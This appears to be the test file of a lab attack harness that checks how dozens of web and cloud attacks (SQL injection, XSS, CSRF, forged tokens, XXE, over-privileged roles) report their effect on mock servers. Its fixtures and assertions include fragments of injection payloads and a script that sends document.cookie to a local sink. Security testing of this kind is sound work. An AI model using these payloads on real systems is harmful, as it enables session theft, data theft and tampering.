import { describe, expect, it } from "vitest";
import type { Attack } from "../../src/attack.ts";
import { ATTACKS } from "../../src/attacks/index.ts";
import type { AwsSession, DatabaseLogin } from "../../src/aws-session.ts";
import type { Exchange, LabRequest, LabResponse, Purpose } from "../../src/exchange.ts";
import { REPLACED_CODE_SAYS } from "../../src/replaced-code.ts";
import { SEED } from "../../src/seed.ts";
import { answer, fakeContext, USERS } from "../support.ts";

type Responder = (request: LabRequest, purpose: Purpose) => LabResponse;

const { acme, globex } = SEED;
const REFUSED = answer(403, { title: "Forbidden" });
const mug = (priceCents = SEED.mugCents) => ({ products: [{ id: 1, sku: "MUG-1", name: "Mug", priceCents }] });
const imported = (note: string) => answer(201, { orders: [{ id: "1", note }] });
const carol = { userId: "sub-carol", companyId: "", groups: ["admin"] };

/** A stage that answers an order's id, and the order itself only to who reads it back. */
function stored(order: object): Responder {
  return (request) => (request.method === "POST" ? answer(201, { id: "o-1" }) : answer(200, order));
}

const granting: AwsSession = {
  listSecrets: async () => ({ ok: true, value: ["empty", "weak/payments"] }),
  secretValue: async (id) => ({ ok: true, value: id === "empty" ? "" : "12345" }),
  databaseRows: async () => ({ ok: true, value: [{ note: globex.note, sku: "MUG-1" }] }),
  close: () => {},
};
const denying: AwsSession = {
  listSecrets: async () => ({ ok: false, code: "AccessDeniedException" }),
  secretValue: async () => ({ ok: false, code: "AccessDeniedException" }),
  databaseRows: async () => ({ ok: false, code: "ER_ACCESS_DENIED_ERROR" }),
  close: () => {},
};

/** How a vulnerable stage answers each attack, and the evidence of it. */
const VULNERABLE: Record<string, { respond: Responder; evidence: string; hit?: { query?: string; body?: string } }> = {
  "api-key-instead-of-token": {
    respond: () => answer(200, { orders: [{ companyId: "acme" }, { companyId: "globex" }] }),
    evidence: "the key lists the orders of acme and globex",
  },
  "authorizer-cache-confusion": {
    respond: () => answer(200, { note: acme.note }),
    evidence: `somebody without a token reads acme's order: "${acme.note}"`,
  },
  "blocked-address": {
    respond: () => answer(200, { userId: "sub-alice" }),
    evidence: "alice's stolen token is good at an address that is denied",
  },
  "blocked-country": {
    respond: () => answer(200, { userId: "sub-alice" }),
    evidence: "alice's stolen token is good in a country that is denied",
  },
  "body-beyond-inspection": {
    respond: stored({ note: `${"n".repeat(17_000)} <script>fetch("http://127.0.0.1:9/t0?"+document.cookie)</script>` }),
    evidence: "a script is stored behind 17000 characters",
  },
  "changed-group-claim": {
    respond: () => answer(200, { groups: ["admin"] }),
    evidence: "the API takes alice for an administrator",
  },
  clickjacking: {
    respond: () => answer(200, `<p>${acme.note}</p>`),
    evidence: "alice's receipt is inside the attacker's page",
  },
  "csrf-order": {
    respond: () => answer(200, { id: "o-1", note: "=t0" }),
    evidence: "alice visited a page, and has ordered seven mugs",
  },
  "csrf-sibling": {
    respond: () => answer(200, { id: "o-1", note: "=t0" }),
    evidence: "alice visited a page, and has ordered seven mugs",
  },
  "cached-policy-other-route": {
    respond: () => answer(200, { orders: [{ companyId: "acme" }, { companyId: "globex" }] }),
    evidence: "with the answer kept for her own order alice lists 1 order of globex",
  },
  "credential-stuffing": {
    respond: ({ body = "" }) =>
      body.includes("alice@") ? answer(204, "", { "set-cookie": "__Host-session=c1; Path=/" }) : REFUSED,
    evidence: "pair 25 of the list is alice's: signed in",
  },
  "flood-one-address": {
    respond: () => answer(200, mug()),
    evidence: "420 of 420 requests of one address were served",
  },
  "flood-unknown-keys": {
    respond: () => answer(200, { userId: "sub-carol" }),
    evidence: "10 of 10 forged tokens were taken for carol's",
  },
  "foreign-api": {
    respond: () => answer(200, { note: globex.note }),
    evidence: "the API api9 of account 444455556666 is answered with globex's order",
  },
  "foreign-cart": {
    respond: ({ path }) => answer(200, path === "/carts" ? { cart: "{}" } : { lines: [{ sku: "MUG-1", quantity: 2 }] }),
    evidence: "alice is shown what bob's company put in its cart: 2 of MUG-1",
  },
  "function-level-authorization": {
    respond: () => answer(200, { orders: [{ companyId: "acme" }, { companyId: "globex" }] }),
    evidence: "alice lists 1 order of globex",
  },
  "id-token-for-access-token": {
    respond: () => answer(200, { userId: "sub-alice" }),
    evidence: "the API takes alice's ID token for an access token",
  },
  "key-set-down": {
    respond: () => answer(200, { userId: "sub-carol" }),
    evidence: "while the key set is down the API takes the forger for carol",
  },
  "key-set-slow": {
    respond: () => answer(200, { userId: "sub-carol" }),
    evidence: "while the key set is slow the API takes the forger for carol",
  },
  "database-token-expired": {
    respond: () => answer(200, {}),
    hit: { body: '{"DATABASE_HOST":"h","DATABASE_PORT":"1","DATABASE_NAME":"n","DATABASE_PASSWORD":"p"}' },
    evidence: "a password without an end reads 1 rows, among them MUG-1",
  },
  "database-token-other-role": {
    respond: () => answer(200, {}),
    hit: { body: '{"DATABASE_HOST":"h","DATABASE_PORT":"1","DATABASE_NAME":"n","DATABASE_CA":"pem"}' },
    evidence: `the cart function's role reads globex's order: "${globex.note}"`,
  },
  "malformed-payload": {
    respond: stored({ totalCents: -6000 }),
    evidence: "the order is stored with a total of -6000 cents",
  },
  "mass-assignment": {
    respond: stored({ discountCents: 1100 }),
    evidence: "the order is stored with a discount of 1100 cents",
  },
  "cache-cross-user-read": {
    respond: () => answer(200, { userId: "sub-alice", companyId: "acme" }),
    evidence: "bob's own token gets alice's answer: company acme",
  },
  "cache-poisoning": {
    respond: () => answer(200, { userId: "sub-bob", companyId: "globex" }),
    evidence: "alice's page is told that she is of globex: bob's answer, which he had put there",
  },
  "cross-origin-read": {
    respond: ({ headers }) =>
      answer(200, acme.note, {
        "access-control-allow-origin": headers?.origin ?? "",
        "access-control-allow-credentials": "true",
      }),
    evidence: `the answer tells the browser to let https://evil.example read alice's receipt: "${acme.note}"`,
  },
  "default-endpoint": {
    respond: ({ headers, path }) =>
      headers?.host?.startsWith("api1.execute-api.") && path.startsWith("/live/products")
        ? answer(200, { products: [{ sku: "MUG-1" }] })
        : answer(403),
    evidence:
      "api1.execute-api.us-east-1.amazonaws.com answers in the place of the domain, whose TLS policy and client certificates do not hold there",
  },
  "no-token": {
    respond: () => answer(200, { note: globex.note }),
    evidence: `anybody reads globex's order: "${globex.note}"`,
  },
  "other-company-order-cancel": {
    respond: () => answer(200, { status: "cancelled" }),
    evidence: "globex's order is cancelled, by alice of acme",
  },
  "other-company-order-get": {
    respond: () => answer(200, { note: globex.note }),
    evidence: `alice of acme reads globex's order: "${globex.note}"`,
  },
  "other-company-order-receipt": {
    respond: () => answer(200, `<p>Note: ${globex.note}</p>`),
    evidence: `alice of acme opens globex's receipt: "${globex.note}"`,
  },
  "other-company-order-status": {
    respond: () => answer(200, { status: "shipped" }),
    evidence: "globex's order is shipped, by alice of acme",
  },
  "other-team-code": {
    respond: () => answer(200, { servedBy: REPLACED_CODE_SAYS }),
    evidence: "a customer is served by the attacker's code in orders",
  },
  "over-privileged-role": {
    respond: () => answer(200, {}),
    hit: { body: '{"accessKeyId":"a","secretAccessKey":"b","sessionToken":"c"}' },
    evidence: "the cart function's role reads the secret weak/payments (5 characters)",
  },
  "oversized-payload": {
    respond: stored({ note: "n".repeat(600_000) }),
    evidence: "a note of 600000 characters is stored",
  },
  "path-traversal-source": {
    respond: () => answer(200, 'import{createRequire}from"node:module";const x=1'),
    evidence: 'the receipt is the function\'s source: import{createRequire}from"node:module";const x=1',
  },
  "prototype-pollution": {
    respond: (_request, purpose) => answer(200, { discountCents: purpose === "proof" ? 777 : 0 }),
    evidence: "bob's clean cart has a discount of 777 cents",
  },
  "refresh-token-reuse": {
    respond: () => answer(204, "", { "set-cookie": "__Host-session=c2; Path=/" }),
    evidence: "the used token gives the thief a session of alice's",
  },
  "session-theft": {
    respond: ({ path }) => (path === "/" ? answer(200, "a=1; __Host-session=c1") : answer(200, { companyId: "acme" })),
    evidence: "the script hands out alice's session, and the thief is alice",
  },
  "session-fixation": {
    respond: ({ path }) =>
      path === "/session"
        ? answer(204, "")
        : answer(200, { id: "o-1", companyId: "globex", note: "alice's confidential order" }),
    evidence: "alice signed in, and her order is globex's: bob reads it",
  },
  "retagged-function": {
    respond: () => answer(200, { team: "catalog" }),
    evidence: "the orders' function is the team catalog's now",
  },
  "revoked-token": {
    respond: () => answer(200, { companyId: "globex" }),
    evidence: "bob's stolen token is good after an administrator revoked his tokens",
  },
  "signed-out-token": {
    respond: ({ method }) => (method === "DELETE" ? answer(204) : answer(200, { companyId: "acme" })),
    evidence: "alice's stolen token is good after she signed out",
  },
  "spoofed-forwarded-for": {
    respond: () => answer(200, { userId: "sub-alice" }),
    evidence: "alice's stolen token is good at a denied address that names another one",
  },
  "sqli-body": { respond: () => answer(200, mug(1)), evidence: "the mug now costs 1 cent, for everybody" },
  "sqli-cookie": {
    respond: () => answer(200, { ...mug(), lastSeen: [{ name: globex.apiSecret }] }),
    evidence: `the search answers globex's secret, ${globex.apiSecret}`,
  },
  "sqli-double-encoded": {
    respond: () => answer(200, { products: [{ name: globex.apiSecret }] }),
    evidence: `the search answers globex's secret, ${globex.apiSecret}`,
  },
  "sqli-header": {
    respond: () => answer(201, { note: globex.note }),
    evidence: `the answer is globex's order: "${globex.note}"`,
  },
  "sqli-boolean": {
    respond: (request) => answer(200, request.path.includes("globex-s") ? mug() : { products: [] }),
    evidence: 'the mug is found exactly when the guess "globex-s" is right',
  },
  "sqli-stacked": { respond: () => answer(200, mug(1)), evidence: "the mug now costs 1 cent, for everybody" },
  "sqli-union": {
    respond: () => answer(200, { products: [{ name: globex.apiSecret }] }),
    evidence: `the search answers globex's secret, ${globex.apiSecret}`,
  },
  "tampered-cart": {
    respond: ({ path }) =>
      answer(200, path === "/carts" ? { cart: '{"version":1,"lines":[]}' } : { discountCents: 778 }),
    evidence: "the cart is restored with the discount that was written into it, 778 cents",
  },
  "unsafe-deserialization-rce": {
    respond: () => answer(200, {}),
    hit: { query: "weak-carts" },
    evidence: "the cart's code ran in weak-carts",
  },
  "unsigned-code": {
    respond: () => answer(200, { servedBy: REPLACED_CODE_SAYS }),
    evidence: "a customer is served by the attacker's code in catalog",
  },
  "verbose-error": {
    respond: () => answer(500, { stack: "SyntaxError: x\n    at JSON.parse (<anonymous>)" }),
    evidence: 'the error tells "at JSON.parse (<anonymous>)"',
  },
  "xml-entity-expansion": {
    respond: () => imported("x".repeat(204_800)),
    evidence: "679 bytes became a note of 204800: 301 times",
  },
  "xss-cookie": {
    respond: () => answer(200, "<script>"),
    hit: { query: "" },
    evidence: "the script ran in alice's browser and reached the attacker (no cookie)",
  },
  "xss-header": {
    respond: () => answer(200, { id: "1" }),
    hit: { query: "" },
    evidence: "the script ran in carol's browser and reached the attacker (no cookie)",
  },
  "xss-encoded": {
    respond: () => answer(200, { id: "1" }),
    hit: { query: "" },
    evidence: "the script ran in carol's browser and reached the attacker (no cookie)",
  },
  "xss-reflected": {
    respond: () => answer(200, "<script>"),
    hit: { query: "__Host-session=abc" },
    evidence: "the script ran in alice's browser and sent her session cookie",
  },
  "xss-stored": {
    respond: () => answer(200, { id: "1" }),
    hit: { query: "" },
    evidence: "the script ran in carol's browser and reached the attacker (no cookie)",
  },
  "xxe-external-entity": {
    respond: () => imported("canary-1"),
    evidence: "the order's note is the file's content: \"canary-1\"",
  },
  "xxe-ssrf": {
    respond: () => imported("sink"),
    hit: {},
    evidence: "the function called http://127.0.0.1:9",
  },
};
for (const { id } of ATTACKS.filter((attack) => attack.id.startsWith("forged-token"))) {
  VULNERABLE[id] = {
    respond: () => answer(200, carol),
    evidence: "the API takes the forger for carol, groups admin",
  };
}

describe.each(ATTACKS)("$id", (attack: Attack) => {
  it("sees the effect on a stage that allows it", async () => {
    const vulnerable = VULNERABLE[attack.id];
    if (!vulnerable) throw new Error(`no vulnerable answer for ${attack.id}`);
    const context = fakeContext(vulnerable.respond, { hit: vulnerable.hit, aws: granting });
    expect(await attack.run(context)).toEqual({ effect: true, evidence: vulnerable.evidence });
    expect(context.sent.some(({ purpose }) => purpose === "attack")).toBe(true);
  });

  it("sees none on a stage that refuses, and says what came back", async () => {
    const context = fakeContext(() => REFUSED);
    const outcome = await attack.run(context);
    expect(outcome.effect).toBe(false);
    expect(outcome.evidence).toContain("→ 403");
  });

  it("sees none in an answer without the data that it is after", async () => {
    const { effect } = await attack.run(fakeContext(() => answer(200, { products: [], orders: [], discountCents: 0 })));
    expect(effect).toBe(false);
  });
});

describe.each(["malformed-payload", "mass-assignment", "oversized-payload"])("%s", (id) => {
  const attack = ATTACKS.find((one) => one.id === id) as Attack;

  it("reads the order back as proof", async () => {
    const context = fakeContext(VULNERABLE[id]?.respond as Responder);
    await attack.run(context);
    expect(context.sent.map(({ purpose, request }) => [purpose, request.method, request.path])).toEqual([
      ["attack", "POST", "/orders"],
      ["proof", "GET", "/orders/o-1"],
    ]);
  });

  it("does not take an echo for what is stored", async () => {
    const echo: Responder = ({ method, body }) => {
      if (method === "POST") return answer(201, { id: "o-1", totalCents: -6000, ...JSON.parse(body ?? "") });
      return answer(200, { id: "o-1", totalCents: 1200, discountCents: 0, note: "short" });
    };
    expect(await attack.run(fakeContext(echo))).toEqual({ effect: false, evidence: "POST /orders → 201" });
  });
});

describe("database-token-expired", () => {
  const attack = ATTACKS.find(({ id }) => id === "database-token-expired") as Attack;
  const hit = {
    body: JSON.stringify({ DATABASE_HOST: "h", DATABASE_PORT: "1", DATABASE_NAME: "n", DATABASE_USER: "carts" }),
  };
  const run = (databaseRows: AwsSession["databaseRows"]) =>
    attack.run(fakeContext(() => answer(200, {}), { hit, aws: { ...granting, databaseRows } }));

  it("signs a token for the function's own user, dated 20 minutes ago, and reads what that user may", async () => {
    const before = Date.now();
    const logins: DatabaseLogin[] = [];
    const outcome = await run(async (login) => {
      logins.push(login);
      return { ok: true, value: [{ sku: "TEE-1" }, { sku: "MUG-1" }] };
    });
    expect(outcome).toEqual({
      effect: true,
      evidence: "a token of 20 minutes ago reads 2 rows, among them MUG-1",
    });
    expect(logins).toEqual([{ host: "h", port: 1, name: "n", user: "carts", signedAt: expect.any(Date) }]);
    const age = before - (logins[0]?.signedAt?.getTime() ?? 0);
    expect(age).toBeGreaterThan(1_190_000);
    expect(age).toBeLessThanOrEqual(1_200_000);
  });

  it("is no exploit when the database refuses the token, or gives no row of the catalogue", async () => {
    expect(await run(denying.databaseRows)).toEqual({
      effect: false,
      evidence: "the database answers ER_ACCESS_DENIED_ERROR to a token of 20 minutes ago",
    });
    expect(await run(async () => ({ ok: true, value: [] }))).toEqual({
      effect: false,
      evidence: "a token of 20 minutes ago reads 0 rows",
    });
  });
});

describe("database-token-other-role", () => {
  const attack = ATTACKS.find(({ id }) => id === "database-token-other-role") as Attack;
  const logins: unknown[] = [];
  const asking = (outcome: AwsSession) => ({
    ...outcome,
    databaseRows: async (...question: Parameters<AwsSession["databaseRows"]>) => {
      logins.push(question[0]);
      return await outcome.databaseRows(...question);
    },
  });

  it("signs a token for another function's user, or has the one user's password", async () => {
    const place = { DATABASE_HOST: "h", DATABASE_PORT: "1", DATABASE_NAME: "n" };
    for (const more of [
      { DATABASE_CA: "pem", DATABASE_USER: "carts" },
      { DATABASE_USER: "admin", DATABASE_PASSWORD: "p" },
    ]) {
      const hit = { body: JSON.stringify({ ...place, ...more }) };
      await attack.run(fakeContext(() => answer(200, {}), { hit, aws: asking(granting) }));
    }
    expect(logins.splice(0)).toEqual([
      { host: "h", port: 1, name: "n", user: "orders", ca: "pem" },
      { host: "h", port: 1, name: "n", user: "admin", password: "p" },
    ]);
  });

  it("is no exploit when the database refuses the token, or holds no such order", async () => {
    const run = (aws: AwsSession) => attack.run(fakeContext(() => answer(200, {}), { hit: { body: "{}" }, aws }));
    expect(await run(denying)).toEqual({
      effect: false,
      evidence: "the database answers ER_ACCESS_DENIED_ERROR to a token for orders",
    });
    expect((await run({ ...granting, databaseRows: async () => ({ ok: true, value: [] }) })).effect).toBe(false);
  });
});

describe("over-privileged-role", () => {
  it("is no exploit when the code runs and the role gives nothing away", async () => {
    const attack = ATTACKS.find(({ id }) => id === "over-privileged-role") as Attack;
    const context = fakeContext(() => answer(200, {}), { hit: { body: "{}" }, aws: denying });
    expect(await attack.run(context)).toEqual({
      effect: false,
      evidence: "the code ran, but AWS answers AccessDenied to the role for every secret",
    });
  });

  it("is no exploit when the role may list secrets and read none", async () => {
    const attack = ATTACKS.find(({ id }) => id === "over-privileged-role") as Attack;
    const aws = { ...granting, secretValue: denying.secretValue };
    const { effect } = await attack.run(fakeContext(() => answer(200, {}), { hit: { body: "{}" }, aws }));
    expect(effect).toBe(false);
  });
});

/** A stage that serves every legitimate request. */
const served: Responder = (request) => {
  const { path, client } = request;
  if (path.startsWith("/products")) return answer(200, mug());
  if (path === "/carts") return answer(200, { cart: "{}" });
  if (path.startsWith("/partners")) {
    const { companyId = "", groups } = USERS[client as keyof typeof USERS];
    return answer(200, { userId: `sub-${client}`, companyId, groups });
  }
  if (path.startsWith("/session")) return answer(204, "", { "set-cookie": "__Host-session=c1; Path=/" });
  if (path.endsWith("/status")) return answer(200, { status: "shipped" });
  if (path.startsWith("/admin")) return answer(200, { orders: [{}, {}] });
  if (path.startsWith("/orders/import")) return imported("twin: a plain feed");
  if (path.includes("/receipt")) {
    const { origin } = request.headers ?? {};
    return answer(200, `<p>${acme.note} ${decodeURIComponent(path).replaceAll("+", " ")}</p>`, {
      ...(origin !== undefined && { "access-control-allow-origin": origin }),
    });
  }
  if (request.method === "DELETE") return answer(200, { status: "cancelled" });
  if (path.includes(globex.orderId)) return answer(200, { note: globex.note });
  return answer(200, { note: acme.note, totalCents: 2400 });
};

describe.each(ATTACKS)("the twin of $id", (attack: Attack) => {
  it("succeeds where legitimate requests are served, and is sent as a twin", async () => {
    const context = fakeContext(served);
    expect(await attack.twin(context)).toMatchObject({ ok: true });
    expect(context.sent.every(({ purpose }) => purpose === "twin")).toBe(true);
    // A cart is saved before it is restored.
    expect(context.sent.map(({ request }) => request.path).filter((path) => path !== "/carts")).toHaveLength(1);
  });

  it("fails where everything is refused", async () => {
    expect(await attack.twin(fakeContext(() => REFUSED))).toEqual({
      ok: false,
      evidence: expect.stringContaining("→ 403: "),
    });
  });

  it("fails where the answer is empty", async () => {
    expect((await attack.twin(fakeContext(() => answer(200, {})))).ok).toBe(false);
  });
});

describe("attacks on the edge", () => {
  const sentBy = async (id: string, respond: Responder = () => REFUSED) => {
    const context = fakeContext(respond);
    const outcome = await (ATTACKS.find((attack) => attack.id === id) as Attack).run(context);
    return { outcome, sent: context.sent };
  };

  it("come from the places that are denied, one of them with a header that says otherwise", async () => {
    for (const [id, from, forwarded] of [
      ["blocked-address", "127.0.9.1", undefined],
      ["blocked-country", "127.0.4.1", undefined],
      ["spoofed-forwarded-for", "127.0.9.2", "192.0.2.10"],
    ] as const) {
      const { request } = (await sentBy(id)).sent[0] as Exchange;
      expect([request.from, request.headers?.["x-forwarded-for"], request.headers?.authorization]).toEqual([
        from,
        forwarded,
        "Bearer alice",
      ]);
    }
  });

  it("say whether others are served while one floods", async () => {
    const limited: Responder = ({ from }) => (from ? answer(429) : answer(200, mug()));
    expect((await sentBy("flood-one-address", limited)).outcome).toEqual({
      effect: false,
      evidence: "300 of 420 requests of one address were served, then GET /products?q=Mug → 429; others are served",
    });
    expect((await sentBy("flood-one-address")).outcome.evidence).toMatch(/; others are not served$/);
  });

  it("try a list of pairs from one address, without a token, and are judged by the one that fits", async () => {
    const { sent } = await sentBy("credential-stuffing");
    expect(sent.map(({ purpose }) => purpose)).toEqual([...Array(24).fill("setup"), "attack"]);
    expect(new Set(sent.map(({ request }) => request.from))).toEqual(new Set(["127.0.1.1"]));
    expect(sent.some(({ request }) => request.headers?.authorization !== undefined)).toBe(false);
    expect(new Set(sent.map(({ request }) => request.body)).size).toBe(25);
  });

  it("carry a payload where and as they say: header, cookie, body, query, in comments, percent codes, escapes and entities", async () => {
    const header = (await sentBy("sqli-header")).sent[0]?.request;
    expect(header?.headers?.["idempotency-key"]).toBe(
      "'/**/uNiOn/**/sElEcT/**/id/**/fRoM/**/orders/**/wHeRe/**/company_id='globex'#",
    );
    const cookie = (await sentBy("sqli-cookie")).sent[0]?.request.headers?.cookie ?? "";
    expect(cookie).toMatch(/^last-seen=-'%20UnIoN%20SeLeCt%20/);
    const body = (await sentBy("sqli-body")).sent[0]?.request.body ?? "";
    expect(body).not.toContain("'");
    expect(JSON.parse(body).lines[0].sku).toMatch(/^'\); UPDATE products SET price_cents=1 /);
    const twice = (await sentBy("sqli-double-encoded")).sent[0]?.request.path ?? "";
    expect(twice).toMatch(/^\/products\?q=-%2527%2520UNION%2520/);
    const reference = (await sentBy("xss-header")).sent[0]?.request;
    expect(reference?.headers?.["x-partner-reference"]).toMatch(/^<img src=x onerror="&#102;etch/);
    expect(JSON.parse(reference?.body ?? "")).not.toHaveProperty("note");
    const planted = (await sentBy("xss-cookie")).sent[0]?.request as { cookies?: Record<string, string> };
    expect(decodeURIComponent(planted.cookies?.reference ?? "")).toMatch(/^<script>fetch/);
  });

  it("hide a script behind 17000 characters, or in escapes that JSON undoes", async () => {
    const [beyond, encoded] = [
      (await sentBy("body-beyond-inspection")).sent[0]?.request.body ?? "",
      (await sentBy("xss-encoded")).sent[0]?.request.body ?? "",
    ];
    expect(beyond.indexOf("<script>")).toBeGreaterThan(16_384);
    expect(encoded).not.toMatch(/[<>/]/);
    expect(encoded).toContain("\\u003cscript\\u003e");
    expect(JSON.parse(encoded).note).toMatch(/^<script>.*<\/script>$/);
  });
});

describe("requests", () => {
  it("send the same token that the forger made", async () => {
    for (const [id, token] of [
      ["forged-token-alg-none", "token-none"],
      ["forged-token-hs256-public-key", "token-hs256"],
      ["forged-token-unknown-kid", "token-kid"],
      ["forged-token-other-issuer", "token-issuer"],
      ["forged-token-expired", "token-expired"],
    ]) {
      const context = fakeContext(() => REFUSED);
      await (ATTACKS.find((attack) => attack.id === id) as Attack).run(context);
      expect(context.sent[0]?.request.headers).toEqual({ authorization: `Bearer ${token}` });
    }
  });

  it("pollute once, prove once, and undo what they did", async () => {
    const context = fakeContext((_request, purpose) => answer(200, { discountCents: purpose === "proof" ? 777 : 0 }));
    await (ATTACKS.find(({ id }) => id === "prototype-pollution") as Attack).run(context);
    expect(context.sent.map(({ purpose }) => purpose)).toEqual(["attack", "setup", "proof", "setup"]);
    expect(context.sent[3]?.request.body).toContain('\\"discountCents\\":0');
  });
});
